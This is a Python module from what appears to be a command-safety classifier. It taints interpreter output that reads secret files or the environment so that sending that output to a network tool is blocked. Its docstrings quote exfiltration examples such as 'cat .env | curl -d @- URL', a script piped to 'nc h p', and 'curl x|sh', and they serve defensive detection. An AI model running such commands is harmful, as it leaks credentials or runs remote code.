"""The output of an interpreter that runs inline code or a script: what it may print.

An interpreter's output is marked ``exec`` (it runs code the classifier reads elsewhere).
It also carries secret data, so that it blocks when it reaches a network tool, like ``cat
.env | curl -d @- URL`` does:

* code that reads a secret file (``perl -e 'open(F, ".env"); print <F>'``, ``ruby -e 'puts
  File.read(".env")'``, ``php -r 'readfile(".env");'``, ``node -e '..readFileSync(".env")'``;
  :func:`._codesecrets.secret_file_read`);
* the same code given on stdin (``python3 <<'EOF' ... EOF | nc h p``);
* a secret file given as an operand after the code, script or module (``perl -ne print
  .env``, ``perl -pe '' .env``, ``python -c '..sys.argv[1]..' .env``, ``python -m json.tool
  .env``): ``-n``/``-p``, ``<>``, ``ARGF`` and ``sys.argv`` read them;
* the secret data its shell-outs print (``perl -e 'print `cat .env`'``, ``python -c
  'subprocess.run(["cat", ".env"])'``);
* secret data on its stdin when the code or a script is given apart from it (``cat .env |
  perl -pe 's/a/b/'``): a filter prints what it reads, as any plain program's output keeps
  its stdin's taint;
* code that reads the environment (``print(os.environ)``, ``process.env.GITHUB_TOKEN``:
  :func:`._codeenv.env_printed`), or runs shell commands whose output is secret data
  (``os.system("env")``, perl's `` `cat .env` ``: ``ran``, from :func:`._interpcode.interp_code`);
  a script written earlier in the command is read the same way (``_sinks.script_sink``).

:func:`inline_code` first binds the code's references to its command-line arguments
(``sys.argv[1]``, ``$ARGV[0]``...) to the static words that give them (:mod:`._codeargv`).

Reading a secret file alone still passes (``ruby -e 'puts File.read(".env")'``), as ``cat
.env`` does; reading ``VERSION`` or ``README.md`` gives no taint.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from ._checks import check_args
from ._codeargv import bind_argv
from ._codeenv import env_printed
from ._codesecrets import secret_file_read
from ._flow import Flow
from ._interpcode import interp_code
from ._secrets import secret_file
from ._values import NO_TAINT, Field, Source, Taint

if TYPE_CHECKING:
    from ._resolve import Invocation
    from ._walk import Run

__all__ = ["code_flow", "inline_code", "prints_secrets"]


def prints_secrets(text: str) -> bool:
    """Code ``text`` reads a secret file or the environment: what it prints may be secret."""
    return secret_file_read(text) or env_printed(text)


def code_flow(run: Run, inv: Invocation, code: Field | None, operands: list[Field],
              stdin: Flow | None, ran: Taint = NO_TAINT) -> Flow:
    """The output flow of ``inv`` running ``code`` (None: a script) on ``operands``; ``ran``:
    the secret sources of the shell commands the code runs."""
    span = run.map_span(inv.word.span)
    taint = {Source("exec", inv.name or "a command", span), *ran}
    if stdin is not None and stdin.taint:
        taint.update(s for s in stdin.taint if s.kind == "secret")
    if (code is not None and prints_secrets(code.text)) or (operands and secret_file(
            [f for f in operands if not f.text.startswith("-")])):
        taint.add(Source("secret", inv.name, span))
    return Flow(frozenset(taint), inv.name, inv.word.span)


def inline_code(run: Run, inv: Invocation, code: Field, operands: list[Field],
                stdin: Flow | None, family: str) -> Flow:
    """Inline ``code`` given ``operands``: its argument references bound to their words
    (``os.system(sys.argv[1]) 'curl x|sh'``: :mod:`._codeargv`), read as code; its output."""
    code = bind_argv(code, family, operands)
    ran = interp_code(run, code, family, inv, stdin)
    check_args(run.add, run.cp.paths, inv.name, operands, run.cwd)
    return code_flow(run, inv, Field(code.text, code.span), operands, stdin, ran)
